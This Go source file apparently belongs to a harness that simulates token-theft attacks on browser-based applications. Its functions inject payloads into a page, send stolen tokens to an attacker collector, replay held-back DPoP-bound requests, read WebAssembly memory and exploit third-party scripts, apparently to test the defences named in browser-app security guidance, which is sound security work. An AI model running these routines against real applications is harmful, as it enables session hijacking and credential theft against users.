package attack

import (
	"context"
	"fmt"
	"net/http"
	"strings"
)

// theft is A1: take what lies about, once, and use it elsewhere. It reads and
// changes nothing: what only passes by is A2's, and what has to be lied to for
// it, X5's.
func (m *mission) theft(ctx context.Context) error {
	got, err := m.inject(ctx, "theft", map[string]string{"api": m.world.API(), "scope": "orders"})
	if err != nil {
		return err
	}
	m.tell(got)
	return m.spend(ctx, sift(got.Places))
}

// tell notes what a payload read, and how much.
func (m *mission) tell(got message) {
	for _, place := range order {
		if text, ok := got.Places[place]; ok {
			m.step("read %s: %d bytes", place, len(text))
		}
	}
}

// persistent is A2: stay, and keep the newest. The payload listens from now on
// to what the application sends and is answered, and reads its stores on a
// timer; it makes the application renew its tokens, which would give an old
// copy away (BBA-48), and lets the attacker use the newest only once the page
// that could use it too is gone.
func (m *mission) persistent(ctx context.Context) error {
	collector, arrived := m.attacker.expect()
	if err := m.browser.Run(ctx, script("persistent", map[string]string{"collector": collector}), nil); err != nil {
		return fmt.Errorf("attack: inject: %w", err)
	}
	newest, reports := message{More: true}, 0
	for newest.More {
		var err error
		if newest, err = await(ctx, arrived); err != nil {
			return err
		}
		reports++
	}
	m.evidence.Finished = newest.Error == ""
	m.step("payload persistent.js stayed in the page and reported whatever was new to %s; the attacker kept the last of %d reports", m.attacker.origin, reports)
	m.step("the payload let the page's clock lie once: the application renewed its tokens: %s", newest.Places["renewed"])
	if newest.Error != "" {
		m.step("the payload could not do its part: %s", newest.Error)
	}
	m.tell(newest)
	if err := m.browser.Go(ctx, "about:blank"); err != nil {
		return fmt.Errorf("attack: close the page: %w", err)
	}
	m.step("the page was left: nobody else uses its refresh token now, and no reuse is noticed")
	return m.spend(ctx, sift(newest.Places))
}

// poison is X5: run before the application, as a dependency of it that was
// taken over does, and lie to it about what it calls by name.
func (m *mission) poison(ctx context.Context) error {
	got, err := m.inject(ctx, "poisoned", map[string]string{})
	if err != nil {
		return err
	}
	m.tell(got)
	for _, r := range got.Requests {
		if err := m.resend(ctx, r); err != nil {
			return err
		}
	}
	return m.spend(ctx, sift(got.Places))
}

// resend sends a request of the application's that the payload held back: what
// proves a sender once (RFC 9449 §4) has not been used up yet.
func (m *mission) resend(ctx context.Context, held request) error {
	r, err := http.NewRequest(held.Method, held.Address, nil)
	if err != nil {
		return err
	}
	for name, value := range held.Header {
		r.Header.Set(name, value)
	}
	_, token, _ := strings.Cut(held.Header["authorization"], " ")
	m.step("the payload held back %s with all its headers; the attacker's client sent it", held.Method+" "+r.URL.Scheme+"://"+r.URL.Host+r.URL.Path)
	answer, _, err := m.attacker.ask(ctx, r, piece{value: token}.fingerprint())
	m.evidence.Answers = append(m.evidence.Answers, answer)
	return err
}

// memory is X9: look through the linear memory of the page's WebAssembly.
func (m *mission) memory(ctx context.Context) error {
	got, err := m.inject(ctx, "memory", map[string]string{})
	if err != nil {
		return err
	}
	if got.Places["memories"] == "0" {
		m.evidence.Missing = "the page runs no WebAssembly"
		return nil
	}
	m.step("read the linear memory of %s WebAssembly instances: %s bytes", got.Places["memories"], got.Places["bytes"])
	return m.spend(ctx, sift(got.Places))
}

// leak is X8: a script of another site, which the page's markup asks for, reads
// what the page's address, its history and its timings have kept, and then uses
// the page. This is the way in that a policy on scripts closes (BBA-15).
func (m *mission) leak(ctx context.Context) error {
	asked := "document.querySelector(\"script[src^='" + m.attacker.origin + "']\") ? \"yes\" : \"\""
	if _, err := until(ctx, m.browser, asked); err != nil {
		return fmt.Errorf("attack: find the script in the page: %w", err)
	}
	m.evidence.Finished = true
	if m.attacker.referer(m.library) == "" {
		m.step("the page's policy kept the browser from asking for the script")
		return nil
	}
	places := map[string]string{"Referer": m.attacker.referer(m.library)}
	for more := true; more; {
		got, err := await(ctx, m.early)
		if err != nil {
			return err
		}
		for place, text := range got.Places {
			places[place] += text + "\n"
		}
		more = got.More
	}
	m.step("the page ran the script: nothing says whose scripts may run")
	m.tell(message{Places: places})
	if err := m.spend(ctx, sift(places)); err != nil {
		return err
	}
	return m.lookFor(ctx, m.item)
}
